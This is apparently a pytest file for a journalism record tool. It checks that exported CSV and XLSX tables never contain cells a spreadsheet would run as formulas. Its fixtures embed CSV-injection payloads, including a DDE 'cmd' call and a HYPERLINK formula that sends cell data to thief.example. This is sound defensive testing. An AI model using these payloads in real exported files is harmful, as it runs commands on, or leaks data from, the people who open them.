"""What goes out as a table is a table, whatever a page printed: no formula runs in a spreadsheet, no row breaks."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient
from ferry_story import make_article, make_claim, own

from onrecord.export.exporting import export_bytes, export_rows
from onrecord.export.fields import KINDS
from onrecord.records import ChainLink, Claim, Figure, Reading, Record, Sighting
from onrecord.store.desk.people import People
from onrecord.viewing import Inputs, view
from onrecord.web.app import create_app
from onrecord.web.desk import Desk
from onrecord.web.settings import WebSettings
from web.conftest import NOW, add_texts
from web.hostile_ledger import Still

RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
CALL, LINK, MINUS, AT = '=cmd|"/c calc"!A1', '=HYPERLINK("http://thief.example/?"&A1,"12")', "-2+3+cmd", "@SUM(1+1)"
PASSWORD = "seven herons by the weir"
PERSON = "=Eve"


def formula_record() -> Record:
    """Two reports whose outlets, titles, speakers, words and file names begin like formulas."""
    first = make_article("a1" * 32, LINK, "2031-05-02", f"{CALL} 12 dead", f"{MINUS} 12 people died, {AT} said.")
    second = make_article("b2" * 32, MINUS, "2031-05-03", f"{AT} 15 dead", f"{CALL} 15 people died, {LINK} said.")

    def dead(count: float, day: str) -> Figure:
        return Figure(
            count, count, "exact", "people", counted=f"{AT} people", state="killed", aspect="cumulative", event=CALL,
            as_of=day, basis="counted",
        )  # fmt: skip

    claims: tuple[Claim, ...] = (
        make_claim(
            first, f"{MINUS} 12 people died", (own(LINK), ChainLink("speaker", AT, of=CALL)), dead(12, "2031-05-02")
        ),
        make_claim(
            second, f"{CALL} 15 people died", (own(MINUS), ChainLink("speaker", LINK)), dead(15, "2031-05-03")
        ),
    )
    readings = tuple(
        Reading(one.capture, (one,), tuple(c for c in claims if c.article == one.id)) for one in (first, second)
    )
    sightings = (Sighting(first.capture, f"{CALL}.txt", NOW), Sighting(second.capture, f"{AT}.txt", NOW))
    return view(Inputs(readings, sightings))


@pytest.fixture(scope="module")
def tables(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """Every table that the workbench gives away: address → content."""
    folder = tmp_path_factory.mktemp("formulas") / "ledger"
    add_texts(folder, {"=x.txt": "Nothing yet.\n"}, story="flood")
    desk = Desk(WebSettings(folder), refresher=Still(folder))  # type: ignore[arg-type]
    desk.views.save("flood", formula_record(), stamp="x", made_at=NOW)
    People(desk.file).add(PERSON, role="admin", password=PASSWORD, now=NOW)
    desk.file.note(at=NOW, person=PERSON, action="+judged", about=LINK, detail="\t=1+1")
    desk.file.note(at=NOW, person=PERSON, action="-1", about="two\nlines", detail=f'"{AT},=1')
    with TestClient(create_app(desk.settings, desk=desk), base_url="http://localhost") as client:
        (token,) = re.findall(r'name="csrf" content="(\w+)"', client.get("/sign-in").text)
        client.post("/sign-in", data={"csrf": token, "name": PERSON, "password": PASSWORD})
        return dict(given_away(client))


def given_away(client: TestClient) -> Iterator[tuple[str, bytes]]:
    """The files that pages offer."""
    page = client.get("/story/flood/questions.html").text
    pages = [
        "/story/flood/index.html",
        "/audit.html",
        *(f"/story/flood/{one}" for one in re.findall(r'href="(questions/[\w-]+\.html)"', page)),
    ]
    for address in pages:
        for link in set(re.findall(r'href="([^"]+\.(?:csv|xlsx|jsonl)(?:\?[^"]*)?)"', client.get(address).text)):
            answer = client.get(str(client.base_url.join(address).join(link.replace("&amp;", "&"))))
            assert answer.status_code in (200, 404), link
            if answer.status_code == 200:
                yield str(answer.url), answer.content


def cells_of(address: str, content: bytes) -> Iterator[str]:
    """The cells of a table as a spreadsheet takes them, those that are no numbers. In XLSX a text is told from a formula
    by what the cell says it is: however it begins, it stays a text.
    """
    if ".csv" in address:
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
            yield from (cell for cell in row if not re.fullmatch(r"-?\d+(\.\d+)?(e[+-]?\d+)?", cell))
    elif ".xlsx" in address:
        for sheet in openpyxl.load_workbook(io.BytesIO(content)):
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (address, cell.value)
                    assert cell.hyperlink is None
                    yield from [cell.value] if isinstance(cell.value, str) else []


def runs(table: str, cell: str) -> bool:
    """Whether a spreadsheet would take a cell for a formula."""
    return "xlsx" not in table and cell.startswith(RUNS)


def test_pages_offer_tables_with_these_words(tables: dict[str, bytes]) -> None:
    """Otherwise the next test would show nothing."""
    assert len([one for one in tables if ".csv" in one]) >= 4
    assert len([one for one in tables if ".xlsx" in one]) >= 3
    for kind in (".csv", ".xlsx"):
        words = "\n".join(
            cell for address, content in tables.items() if kind in address for cell in cells_of(address, content)
        )
        assert "thief.example" in words
        assert "SUM(1+1)" in words


def test_no_cell_of_the_workbench_is_a_formula(tables: dict[str, bytes]) -> None:
    """In tables of questions, in the log, in what a plot shows."""
    wrong = [
        (address, cell)
        for address, content in tables.items()
        for cell in cells_of(address, content)
        if runs(address, cell)
    ]
    assert not wrong


def test_a_line_of_data_is_one_line(tables: dict[str, bytes]) -> None:
    """JSON Lines stay what they are; their words are as printed, since nothing runs there."""
    lines = [
        line for address, content in tables.items() if ".jsonl" in address for line in content.decode().splitlines()
    ]
    assert [json.loads(line) for line in lines]


@pytest.mark.parametrize("layout", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", sorted(KINDS))
def test_no_cell_of_an_export_is_a_formula(kind: str, layout: str) -> None:
    """`onrecord export`, every kind."""
    record = formula_record()
    content = export_bytes(record, export_rows(record, (), kind), kind, layout)
    assert not [cell for cell in cells_of(f"x.{layout}", content) if runs(layout, cell)]


def test_names_of_files_are_plain(tables: dict[str, bytes], tmp_path: Path) -> None:
    """A file's name cannot leave its folder."""
    assert tables
    for address in tables:
        assert re.fullmatch(r"http://localhost/[\w/@.?=&%-]*", address)
